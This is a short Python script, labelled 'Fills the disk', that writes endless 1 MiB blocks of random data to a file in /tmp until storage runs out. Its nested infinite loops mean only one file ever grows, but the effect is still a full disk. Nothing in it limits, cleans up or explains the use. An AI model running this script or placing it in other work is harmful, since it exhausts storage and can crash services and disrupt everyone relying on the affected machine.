# Fills the disk.
import os

number = 0
while True:
    number += 1
    with open("/tmp/%d" % number, "wb") as file:
        while True:
            file.write(os.urandom(1 << 20))
